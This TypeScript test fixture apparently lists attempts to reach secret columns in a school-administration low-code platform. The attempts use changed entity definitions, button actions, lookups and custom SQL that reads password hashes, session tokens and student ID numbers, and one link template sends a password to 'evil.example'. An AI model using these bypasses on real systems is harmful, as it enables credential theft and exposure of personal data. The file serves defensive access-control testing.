// Definitions that try to reach a secret or hidden column, each by another property. `attempts.test.ts`
// saves each one, and plants each one in the database past all checks.
import type { EntityDefinition, FieldDraft } from '@jiaowu/api/entity/definition/definition'

export interface Attempt {
  readonly name: string
  /** The property that names the column. */
  readonly by: string
  /**
   * `admin` has every permission and wants a secret; `designer` may design and read students without
   * ID numbers, and wants those.
   */
  readonly as: 'admin' | 'designer'
  /** The shipped entity that is changed, or copied for a new tag. */
  readonly tag: string
  readonly newTag?: string
  readonly change: (entity: EntityDefinition) => object
}

type Change = Attempt['change']
const all = { isList: 1, isQuery: 1, isDetail: 1, isExport: 1, isAdd: 1, isEdit: 1 } as const

function alter(attrName: string, change: Partial<FieldDraft>): Change {
  return (entity) => ({
    ...entity,
    fields: entity.fields.map((field) =>
      field.attrName === attrName ? { ...field, ...change } : field,
    ),
  })
}

function extra(change: Partial<FieldDraft>): Change {
  return (entity) => ({
    ...entity,
    fields: [
      ...entity.fields,
      {
        id: '7777',
        attrName: 'extra',
        uiLabel: '附加',
        uiType: 'input',
        uiSort: 99,
        ...all,
        ...change,
      },
    ],
  })
}

const onColumn = (table: string, columnName: string, more: Partial<FieldDraft> = {}) =>
  extra({ columnName, tableName: table, ...more })

/** A choice that shows an attribute of another entity, stored in a column of numbers. */
const showing = (dictValue: string, more: Partial<FieldDraft> = {}) =>
  extra({
    uiType: 'select',
    dictType: 1,
    dictValue,
    columnName: 'create_user',
    tableName: 'faculty',
    ...more,
  })

const entity =
  (change: Partial<EntityDefinition>): Change =>
  (before) => ({ ...before, ...change })
const options =
  (change: Partial<EntityDefinition['options']>): Change =>
  (before) => ({ ...before, options: { ...before.options, ...change } })

/** An entity whose fields are the given columns of a table. */
const over =
  (schemaName: 'biz' | 'sys', tableName: string, columns: readonly string[]): Change =>
  (before) => ({
    ...before,
    schemaName,
    tableName,
    tagField: columns[0] ?? null,
    parentField: null,
    options: { ...before.options, sorts: [], serialNumType: null, serialNumField: null },
    buttons: [],
    fields: columns.map((columnName, index) => ({
      ...all,
      id: String(8000 + index),
      attrName: columnName,
      uiLabel: columnName,
      uiType: 'input',
      columnName,
      tableName,
      uiSort: index,
      isAdd: 0,
      isEdit: 0,
    })),
  })

const addReachButton =
  (more: object): Change =>
  (before) => ({
    ...before,
    buttons: [
      {
        code: 'reach',
        name: '触及',
        position: 2,
        eventType: 1,
        eventContent: [{ do: 'refresh' }],
        ...more,
      },
    ],
  })

const user = { as: 'admin', tag: 'SYS_USER' } as const
const faculty = { as: 'admin', tag: 'EDU_FACULTY' } as const

/** The password of accounts, by every property of its own entity. */
const passwords: readonly Attempt[] = [
  { ...user, name: 'a text field', by: 'uiType', change: alter('password', { uiType: 'input' }) },
  { ...user, name: 'a list', by: 'isList', change: alter('password', { isList: 1 }) },
  { ...user, name: 'a detail', by: 'isDetail', change: alter('password', { isDetail: 1 }) },
  { ...user, name: 'an export', by: 'isExport', change: alter('password', { isExport: 1 }) },
  { ...user, name: 'a filter', by: 'isQuery', change: alter('password', { isQuery: 1 }) },
  {
    ...user,
    name: 'another field on its column',
    by: 'columnName',
    change: alter('name', { columnName: 'password_hash' }),
  },
  {
    ...user,
    name: 'a second field',
    by: 'fields',
    change: onColumn('app_user', 'password_hash'),
  },
  { ...user, name: 'the title', by: 'tagField', change: entity({ tagField: 'password' }) },
  { ...user, name: 'the parent', by: 'parentField', change: entity({ parentField: 'password' }) },
  { ...user, name: 'the id', by: 'idField', change: entity({ idField: 'password' }) },
  {
    ...user,
    name: 'the order',
    by: 'options.sorts',
    change: options({ sorts: [{ column: 'password', asc: true }] }),
  },
  {
    ...user,
    name: 'the serial number',
    by: 'options.serialNumField',
    change: options({ serialNumType: 3, serialNumField: 'password' }),
  },
  {
    ...user,
    name: 'a source of choices',
    by: 'dictType',
    change: alter('password', { dictType: 0, dictValue: 'gender' }),
  },
  {
    ...user,
    name: 'a link',
    by: 'linkUrl',
    change: alter('name', { linkType: 1, linkUrl: 'https://evil.example/{password}' }),
  },
  {
    ...user,
    name: 'the condition of a button',
    by: 'buttons.positionExp',
    change: addReachButton({ positionExp: "row.password != ''" }),
  },
  {
    ...user,
    name: 'the address a button opens',
    by: 'buttons.open',
    change: addReachButton({ eventContent: [{ do: 'open', to: '/x?h={password}' }] }),
  },
  {
    ...user,
    name: 'the message of a button',
    by: 'buttons.message',
    change: addReachButton({ eventContent: [{ do: 'message', text: '{password}' }] }),
  },
  {
    ...user,
    name: 'a button that sets it',
    by: 'buttons.setField',
    change: addReachButton({
      eventContent: [{ do: 'setField', attrName: 'password', value: 'x' }],
    }),
  },
  {
    ...faculty,
    name: 'a button that requests it',
    by: 'buttons.request',
    change: addReachButton({
      eventContent: [
        { do: 'request', tag: 'SYS_USER', method: 'update', id: '{id}', values: { password: 'x' } },
      ],
    }),
  },
  {
    ...user,
    name: 'another system table',
    by: 'tableName of a system entity',
    change: over('sys', 'session', ['access_hash', 'refresh_hash', 'sealed_successor']),
  },
]

/** Secrets from an entity of the business schema. */
const secrets: readonly Attempt[] = [
  {
    ...faculty,
    name: 'the label of a lookup',
    by: 'dictValue of select',
    change: showing('SYS_USER.password'),
  },
  {
    ...faculty,
    name: 'the label of a tree',
    by: 'dictValue of selectTree',
    change: showing('SYS_USER.password', { uiType: 'selectTree' }),
  },
  {
    ...faculty,
    name: 'the labels of several choices',
    by: 'dictValue of multiSelect',
    change: showing('SYS_USER.password', {
      uiType: 'multiSelect',
      columnName: null,
      tableName: null,
    }),
  },
  {
    ...faculty,
    name: 'the filter of a cascade',
    by: 'options.cascades',
    change: (before) => {
      const one = showing('SYS_USER.name', {
        options: { cascades: [{ attrName: 'org', filterAttr: 'password' }] },
      })(before) as EntityDefinition
      const [field] = one.fields.slice(-1)
      return {
        ...one,
        fields: [...one.fields, { ...field, id: '7778', attrName: 'org', options: {} }],
      }
    },
  },
  {
    ...faculty,
    name: 'choices by custom SQL',
    by: 'dictValue of SQL',
    change: extra({
      uiType: 'select',
      dictType: 2,
      dictValue: 'select account as id, password_hash as name from sys.app_user',
    }),
  },
  {
    ...faculty,
    name: 'a default by custom SQL',
    by: 'defaultValue of SQL',
    change: extra({
      uiDefaultType: 3,
      defaultValue: 'select password_hash from sys.app_user limit 1',
    }),
  },
  {
    ...faculty,
    name: 'a common table in SQL',
    by: 'with',
    change: extra({
      uiType: 'select',
      dictType: 2,
      dictValue: 'with x as (select * from sys.session) select id, access_hash as name from x',
    }),
  },
  {
    ...faculty,
    name: 'a union in SQL',
    by: 'union',
    change: extra({
      uiType: 'select',
      dictType: 2,
      dictValue: 'select id, name from biz.class union select 1, answer from sys.captcha',
    }),
  },
  {
    ...faculty,
    name: 'a password of a user’s table in SQL',
    by: 'column of SQL',
    change: extra({
      uiType: 'select',
      dictType: 2,
      dictValue: 'select id, door_password as name from biz.keyring',
    }),
  },
  {
    ...faculty,
    name: 'the table of accounts',
    by: 'schemaName',
    change: over('sys', 'app_user', ['account', 'password_hash']),
  },
  ...(
    [
      ['session', ['access_hash', 'refresh_hash']],
      ['sms_code', ['mobile', 'hash', 'salt']],
      ['captcha', ['key', 'answer']],
      ['file_ticket', ['ticket_hash']],
    ] as const
  ).map(([table, columns]): Attempt => ({
    ...faculty,
    name: `a new entity on sys.${table}`,
    by: `tableName ${table}`,
    newTag: 'REACH_ONE',
    change: over('sys', table, columns),
  })),
  {
    ...user,
    name: 'a copy of the accounts under another tag',
    by: 'tag',
    newTag: 'REACH_ONE',
    change: alter('password', { uiType: 'input', ...all }),
  },
]

const student = { as: 'designer', tag: 'EDU_STUDENT' } as const
const classes = { as: 'designer', tag: 'EDU_CLASS' } as const
const ofClass = (dictValue: string, more: Partial<FieldDraft> = {}) =>
  showing(dictValue, { tableName: 'class', ...more })

/** ID numbers of students, which field rules hide from the designer. */
const hidden: readonly Attempt[] = [
  {
    ...student,
    name: 'a wider flag under another name',
    by: 'attrName',
    change: alter('idCard', { attrName: 'harmless', isAdd: 1, isEdit: 1, isList: 1 }),
  },
  {
    ...student,
    name: 'a second field on the column',
    by: 'columnName',
    change: onColumn('student', 'id_card', { isAdd: 0, isEdit: 0 }),
  },
  {
    ...student,
    name: 'a custom field turned into the column',
    by: 'columnName of a custom field',
    change: onColumn('student', 'id_card', { uiType: 'textarea', isAdd: 2, isEdit: 2 }),
  },
  { ...student, name: 'the title', by: 'tagField', change: entity({ tagField: 'idCard' }) },
  { ...student, name: 'the parent', by: 'parentField', change: entity({ parentField: 'idCard' }) },
  {
    ...student,
    name: 'the order',
    by: 'options.sorts',
    change: options({ sorts: [{ column: 'idCard', asc: true }] }),
  },
  {
    ...student,
    name: 'the serial number',
    by: 'options.serialNumField',
    change: options({ serialNumType: 3, serialNumField: 'idCard' }),
  },
  {
    ...classes,
    name: 'another table',
    by: 'tableName',
    change: over('biz', 'student', ['name', 'id_card']),
  },
  {
    ...classes,
    name: 'a new entity on the table',
    by: 'a second tag',
    newTag: 'REACH_ONE',
    change: over('biz', 'student', ['id_card']),
  },
  {
    ...student,
    name: 'a copy of the entity',
    by: 'a copied definition',
    newTag: 'REACH_ONE',
    change: alter('idCard', all),
  },
  {
    ...classes,
    name: 'the label of a lookup',
    by: 'dictValue',
    change: ofClass('EDU_STUDENT.idCard'),
  },
  {
    ...classes,
    name: 'the filter of a cascade',
    by: 'filterAttr',
    change: (before) => {
      const one = ofClass('EDU_STUDENT.name', {
        options: { cascades: [{ attrName: 'major', filterAttr: 'idCard' }] },
      })(before)
      return one
    },
  },
  {
    ...classes,
    name: 'choices by custom SQL',
    by: 'dictValue of SQL over a business table',
    change: extra({
      uiType: 'select',
      dictType: 2,
      dictValue: 'select id, id_card as name from biz.student',
    }),
  },
  {
    ...classes,
    name: 'a default by custom SQL',
    by: 'defaultValue of SQL over a business table',
    change: extra({ uiDefaultType: 3, defaultValue: 'select max(id_card) from biz.student' }),
  },
  {
    ...classes,
    name: 'a system parameter',
    by: 'defaultValue of a parameter',
    change: extra({ uiDefaultType: 2, defaultValue: 'CONTACT_ADDRESS' }),
  },
  {
    ...classes,
    name: 'a table that nobody uses',
    by: 'tableName without entity:adopt',
    newTag: 'REACH_ONE',
    change: over('biz', 'keyring', ['name']),
  },
]

export const attempts: readonly Attempt[] = [...passwords, ...secrets, ...hidden]
